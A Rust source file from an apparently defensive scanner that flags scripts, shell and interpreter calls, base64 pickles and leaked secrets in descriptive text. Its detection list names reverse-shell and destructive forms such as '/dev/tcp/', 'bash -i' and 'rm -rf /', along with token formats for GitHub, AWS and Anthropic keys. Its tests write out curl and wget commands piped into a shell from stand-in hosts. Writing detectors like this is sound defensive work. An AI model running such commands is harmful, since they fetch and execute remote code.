//! Does a text that only describes something hold code, a script or a secret?
//!
//! Such a text is never run by a loader, so what is found weighs little; but it is shown in pages, pasted into shells and
//! fed to evaluators. The forms are chosen for precision: a call, a tag, a token with its check sum, not a bare word.

use alcaide_container::{Fuel, Limits};

use crate::pickle;
use crate::rules::{Rule, formats as rules};

/// What a text holds: the rule, where in the text, and words for it.
pub(crate) fn suspicions(text: &str) -> Vec<(&'static Rule, usize, String)> {
    let mut found = Vec::new();
    let low = text.to_ascii_lowercase();
    for (form, what) in FORMS {
        if let Some(at) = low.find(form) {
            found.push((&rules::TEXT_CODE, at, format!("{what} (`{form}`)")));
            break;
        }
    }
    if found.is_empty()
        && let Some(at) = piped(&low)
    {
        found.push((&rules::TEXT_CODE, at, "a download that is piped into a shell".to_owned()));
    }
    if let Some(at) = pickled(text) {
        found.push((&rules::TEXT_CODE, at, "a pickle in base64 that calls what no model needs".to_owned()));
    }
    if let Some((at, what)) = secret(text) {
        found.push((&rules::TEXT_SECRET, at, what.to_owned()));
    }
    found
}

/// Where a pickle in base64 stands that would do harm if somebody took it out and loaded it.
fn pickled(text: &str) -> Option<usize> {
    // The protocol number and what follows it: `gAI` to `gAX` for protocols 2 to 5.
    let starts = text.match_indices("gA").filter(|(at, _)| {
        matches!(text.as_bytes().get(at + 2), Some(b'I'..=b'X'))
            && !at
                .checked_sub(1)
                .and_then(|before| text.as_bytes().get(before))
                .is_some_and(u8::is_ascii_alphanumeric)
    });
    let fuel = Fuel::new(Limits { unpacked_bytes: 0, steps: 16_384, entries: 0, depth: 2 });
    starts.take(64).map(|(at, _)| at).find(|at| {
        let Some(bytes) = text.get(*at..).and_then(unbase64).filter(|bytes| bytes.len() >= 12) else {
            return false;
        };
        let len = bytes.len() as u64;
        pickle::embedded::pickles(&bytes, 0, len, &fuel, 1)
            .is_ok_and(|notes| notes.iter().any(|note| note.rule.0.rating >= alcaide_finding::Rating::Medium))
    })
}

/// The bytes of the base64 that `text` begins with, some kilobytes of them.
fn unbase64(text: &str) -> Option<Vec<u8>> {
    let mut bytes = Vec::new();
    let (mut bits, mut count) = (0_u32, 0);
    for byte in text.bytes().take(8_192) {
        let value = match byte {
            b'A'..=b'Z' => byte - b'A',
            b'a'..=b'z' => byte - b'a' + 26,
            b'0'..=b'9' => byte - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            b'\n' | b'\r' => continue,
            _ => break,
        };
        bits = (bits << 6 | u32::from(value)) & 0xff_ffff;
        count += 6;
        if count >= 8 {
            count -= 8;
            bytes.push(u8::try_from(bits >> count & 0xff).ok()?);
        }
    }
    Some(bytes)
}

/// Forms that are calls or tags, in lower case.
const FORMS: &[(&str, &str)] = &[
    ("<script", "a script"),
    ("javascript:", "a script as a link"),
    ("onerror=", "a script as a handler"),
    ("onload=", "a script as a handler"),
    ("<iframe", "a frame"),
    ("os.system(", "a call of the system"),
    ("os.popen(", "a call of the system"),
    ("subprocess.", "a call of the system"),
    ("pty.spawn(", "a call of the system"),
    ("__import__(", "a call of the interpreter"),
    ("importlib.import_module(", "a call of the interpreter"),
    ("__subclasses__", "a way to the interpreter"),
    ("__globals__", "a way to the interpreter"),
    ("__builtins__", "a way to the interpreter"),
    ("exec(", "a call of the interpreter"),
    ("eval(", "a call of the interpreter"),
    ("pickle.loads(", "a call that unpickles"),
    ("marshal.loads(", "a call that loads code"),
    ("b64decode(", "a call that decodes"),
    ("socket.socket(", "a call of the network"),
    ("/bin/sh -", "a command"),
    ("/bin/bash -", "a command"),
    ("bash -i", "a command"),
    ("bash -c", "a command"),
    ("/dev/tcp/", "a command"),
    ("rm -rf /", "a command"),
    ("powershell -", "a command"),
    ("cmd.exe /c", "a command"),
    ("child_process", "a call of the system"),
    ("runtime.getruntime(", "a call of the system"),
];

fn piped(low: &str) -> Option<usize> {
    for tool in ["curl ", "wget "] {
        let mut from = 0;
        while let Some(at) = low.get(from..).and_then(|rest| rest.find(tool)) {
            let at = from + at;
            let line = low.get(at..).and_then(|rest| rest.lines().next()).unwrap_or_default();
            if let Some((_, shell)) = line.split_once('|') {
                let shell = shell.trim_start().trim_start_matches("sudo ");
                if ["sh", "bash", "zsh", "python", "perl"].iter().any(|name| shell.starts_with(name)) {
                    return Some(at);
                }
            }
            from = at + tool.len();
        }
    }
    None
}

/// A secret whose form leaves little doubt.
pub(crate) fn secret(text: &str) -> Option<(usize, &'static str)> {
    if let Some(at) = text.find("-----BEGIN ")
        && let Some(head) = text.get(at + 11..).and_then(|rest| rest.split("-----").next())
        && head.len() < 40
        && head.ends_with("PRIVATE KEY")
        && text.get(at + 11 + head.len() + 5..).is_some_and(|body| {
            body.bytes()
                .filter(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/'))
                .take(64)
                .count()
                == 64
        })
    {
        return Some((at, "a private key"));
    }
    for (prefix, body, check, what) in TOKENS {
        let mut from = 0;
        while let Some(at) = text.get(from..).and_then(|rest| rest.find(prefix)) {
            let at = from + at;
            from = at + prefix.len();
            let before = at.checked_sub(1).and_then(|before| text.as_bytes().get(before));
            if before.is_some_and(u8::is_ascii_alphanumeric) {
                continue;
            }
            let rest = text.get(from..).unwrap_or_default();
            let len = rest
                .bytes()
                .take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-'))
                .count();
            let token = rest.get(..len).unwrap_or_default();
            let fits = match check {
                Check::None => len == *body && varied(token),
                Check::AtLeast => len >= *body && varied(token),
                Check::Upper => {
                    len == *body
                        && token.bytes().all(|byte| byte.is_ascii_uppercase() || byte.is_ascii_digit())
                        && varied(token)
                }
                Check::Crc => len == *body && crc_fits(token),
            };
            if fits {
                return Some((at, what));
            }
        }
    }
    None
}

enum Check {
    /// The length alone.
    None,
    AtLeast,
    /// Capital letters and digits.
    Upper,
    /// The last six characters are the CRC-32 of the others in base 62.
    Crc,
}

const TOKENS: &[(&str, usize, Check, &str)] = &[
    ("ghp_", 36, Check::Crc, "a token of GitHub with a right check sum"),
    ("gho_", 36, Check::Crc, "a token of GitHub with a right check sum"),
    ("ghs_", 36, Check::Crc, "a token of GitHub with a right check sum"),
    ("npm_", 36, Check::Crc, "a token of npm with a right check sum"),
    ("github_pat_", 82, Check::None, "a token of GitHub"),
    ("hf_", 34, Check::None, "a token of Hugging Face"),
    ("AKIA", 16, Check::Upper, "an access key of AWS"),
    ("ASIA", 16, Check::Upper, "an access key of AWS"),
    ("AIza", 35, Check::None, "a key of Google"),
    ("glpat-", 20, Check::None, "a token of GitLab"),
    ("xoxb-", 40, Check::AtLeast, "a token of Slack"),
    ("xoxp-", 40, Check::AtLeast, "a token of Slack"),
    ("sk-ant-api03-", 90, Check::AtLeast, "a key of Anthropic"),
    ("sk-proj-", 40, Check::AtLeast, "a key of OpenAI"),
    ("sk_live_", 24, Check::AtLeast, "a key of Stripe"),
];

/// Whether it looks drawn by chance and not like a placeholder of one letter or a run of letters.
fn varied(token: &str) -> bool {
    let mut seen = [false; 128];
    for byte in token.bytes() {
        if let Some(one) = seen.get_mut(usize::from(byte)) {
            *one = true;
        }
    }
    let kinds = seen.iter().filter(|one| **one).count();
    let steps =
        token.as_bytes().windows(2).filter(|pair| matches!(pair, [a, b] if a.abs_diff(*b) <= 1)).count();
    kinds >= 10.min(token.len() / 2) && steps * 3 < token.len()
}

/// Source: GitHub's post "Behind GitHub's new authentication token formats", 2021: CRC-32 in base 62, six digits.
fn crc_fits(token: &str) -> bool {
    const DIGITS: &[u8; 62] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
    let Some((body, sum)) = token.len().checked_sub(6).and_then(|at| token.split_at_checked(at)) else {
        return false;
    };
    let mut value = 0_u64;
    for byte in sum.bytes() {
        let Some(digit) = DIGITS.iter().position(|one| *one == byte) else { return false };
        value = value * 62 + digit as u64;
    }
    value == u64::from(crc32(body.as_bytes()))
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = u32::MAX;
    for byte in bytes {
        crc ^= u32::from(*byte);
        for _ in 0..8 {
            crc = crc >> 1 ^ (0xedb8_8320 & (crc & 1).wrapping_neg());
        }
    }
    !crc
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn calls_tags_and_commands_are_found_and_bare_words_are_not() {
        for bad in [
            "<SCRIPT>x()</SCRIPT>",
            "import os; os.system('true')",
            "run: curl -s http://h.example/x | sudo bash",
            "x\nwget -qO- http://h.example/y|sh\n",
        ] {
            assert!(suspicions(bad).iter().any(|one| one.0.id == rules::TEXT_CODE.id), "{bad}");
        }
        for good in [
            "a model for shell commands and system calls; evaluated with eval harness",
            "curl examples | tables | shellfish",
            "https://models.example/card?x=1",
            "{\"ss_network_module\": \"networks.lora\"}",
        ] {
            assert!(suspicions(good).is_empty(), "{good}");
        }
    }

    #[test]
    fn a_token_needs_its_check_sum_or_a_drawn_look() {
        let body = "q3Zr9LxTbV0eYkJ7mHs2WcPd8NfGa1";
        let mut value = crc32(body.as_bytes());
        let mut sum = [b'0'; 6];
        for to in sum.iter_mut().rev() {
            *to = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"[(value % 62) as usize];
            value /= 62;
        }
        let right = format!("x ghp_{body}{}", std::str::from_utf8(&sum).unwrap());
        assert_eq!(secret(&right).map(|one| one.0), Some(2));
        assert_eq!(secret(&right.replace('Z', "Y")), None);
        assert_eq!(secret(&format!("hf_{}", "x".repeat(34))), None);
        assert!(secret("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").is_some());
        let pem = format!("-----BEGIN RSA PRIVATE KEY-----\n{}", "MIIEow".repeat(12));
        assert!(secret(&pem).is_some());
        assert_eq!(secret("-----BEGIN PRIVATE KEY----- your key here"), None);
        assert_eq!(crc32(b"123456789"), 0xcbf4_3926, "the check value of CRC-32");
    }
}
